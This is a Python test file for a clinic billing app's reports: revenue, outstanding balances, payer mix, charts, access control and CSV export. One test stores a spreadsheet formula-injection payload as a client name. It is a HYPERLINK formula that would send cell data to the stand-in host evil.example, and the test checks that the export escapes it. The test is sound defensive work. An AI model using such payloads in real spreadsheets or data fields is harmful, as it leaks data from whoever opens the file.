"""Revenue, outstanding balances and payer mix, on screen and as CSV."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from typing import Any

from fascia.billing.actions import invoice_appointment, record_payment, refund
from fascia.billing.reports import (
    outstanding,
    payer_mix,
    revenue,
    revenue_by_month,
    unreceipted,
)
from fascia.billing.tests.test_billing import AFTER, completed_visit
from fascia.scheduling.tests.conftest import ClinicWeek
from fascia.spreadsheets import FORMULA_STARTS, spreadsheet_cell

YEAR = (date(2031, 1, 1), date(2031, 12, 31))


def test_reports_add_up(week: ClinicWeek, signed_in: Any) -> None:
    paid = invoice_appointment(completed_visit(week, 10), now=AFTER)
    record_payment(
        paid,
        amount_paid="100.00",
        method="insurer",
        payer="insurer",
        payer_name="Sun Life",
        now=AFTER,
    )
    record_payment(paid, amount_paid="20.00", method="debit", now=AFTER)
    refund(paid, amount_refunded="5.00", method="debit", reason="Goodwill", now=AFTER)
    owing = invoice_appointment(completed_visit(week, 14), now=AFTER)
    record_payment(owing, amount_paid="30.00", method="cash", now=AFTER)

    (row,) = revenue(week.practice, *YEAR).rows
    # Exactly two places, whatever the database's arithmetic (SQLite sums in floating point).
    assert row[0] == "2031-03" and str(row[3]) == "240.00" and str(row[4]) == "0.00"
    owed = {row[0]: row[4] for row in outstanding(week.practice).rows}
    # The refund reopened $5.00 on the first invoice; the second still owes $90.00.
    assert owed == {paid.number: Decimal("5.00"), owing.number: Decimal("90.00")}
    mix = {payer: amount for payer, amount, _ in payer_mix(week.practice, *YEAR).rows}
    assert mix == {"Clients": Decimal("45.00"), "Insurers (direct)": Decimal("100.00")}
    assert {str(amount) for amount in mix.values()} == {"45.00", "100.00"}
    assert {str(row[3]) for row in outstanding(week.practice).rows} == {"120.00"}

    assert outstanding(week.practice).totals == (
        "Total",
        "",
        "",
        Decimal("240.00"),
        Decimal("95.00"),
    )
    assert payer_mix(week.practice, *YEAR).totals == ("Total", Decimal("145.00"), "100%")
    months = revenue_by_month(week.practice, date(2031, 2, 1), date(2031, 4, 30))
    assert [row[0] for row in months.rows] == ["2031-02", "2031-03", "2031-04"]
    assert months.rows[1][1:] == (Decimal("240.00"), Decimal("0.00"), Decimal("145.00"))
    assert months.totals == ("Total", Decimal("240.00"), Decimal("0.00"), Decimal("145.00"))
    assert months.chart is not None
    assert [bar.height for bar in months.chart.bars] == [0, 180, 0]  # March is the tallest
    assert months.chart.bars[1].value_text == "$240.00"

    assert unreceipted(week.practice).rows == []  # neither is paid in full
    record_payment(paid, amount_paid="5.00", method="cash", now=AFTER)
    (waiting,) = unreceipted(week.practice).rows
    assert waiting[0] == paid.number and waiting[3] == Decimal("120.00")

    books = signed_in(week.cast.bookkeeper)
    page = books.get("/staff/reports/?from=2031-01-01&to=2031-12-31").content.decode()
    assert "Payer mix" in page and "Outstanding balances" in page
    assert '<td class="num"><strong>$240.00</strong></td>' in page  # the revenue's total
    assert 'role="img" aria-label="Revenue by month, before tax"' in page
    swapped = books.get("/staff/reports/?from=2031-12-31&to=2031-01-01", follow=True)
    assert "they were swapped" in swapped.content.decode()
    csv = books.get("/staff/reports/?from=2031-01-01&to=2031-12-31&csv=payers")
    assert csv["Content-Type"].startswith("text/csv")
    assert csv.content.decode().splitlines()[0] == "Payer,Received,Share"
    assert signed_in(week.maya.user).get("/staff/reports/").status_code == 403


def test_a_name_typed_as_a_formula_is_plain_text_in_the_csv(
    week: ClinicWeek, signed_in: Any
) -> None:
    """Spreadsheet formula injection: a client who books as `=HYPERLINK(...)` must not become
    a live formula in the bookkeeper's spreadsheet; amounts (a refund's minus) stay numbers."""
    client = week.client
    client.legal_first_name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    client.legal_last_name = "@SUM(1+1)"
    client.save()
    invoice_appointment(completed_visit(week, 10), now=AFTER)
    books = signed_in(week.cast.bookkeeper)
    text = books.get("/staff/reports/?csv=outstanding").content.decode()
    (_, row, total) = list(csv.reader(io.StringIO(text)))
    assert total == ["Total", "", "", "120.00", "120.00"]
    name_cells = [cell for cell in row if "HYPERLINK" in cell or "SUM" in cell]
    assert name_cells and all(cell.startswith("'") for cell in name_cells)
    assert not any(cell.startswith(FORMULA_STARTS) for cell in row)


def test_spreadsheet_cells() -> None:
    assert spreadsheet_cell("=1+1") == "'=1+1"
    assert spreadsheet_cell("\t=1") == "'\t=1"
    assert spreadsheet_cell("+1 416 555 0100") == "'+1 416 555 0100"
    assert spreadsheet_cell(Decimal("-5.00")) == "-5.00"
    assert spreadsheet_cell("Sun Life") == "Sun Life"
    assert spreadsheet_cell(None) == ""
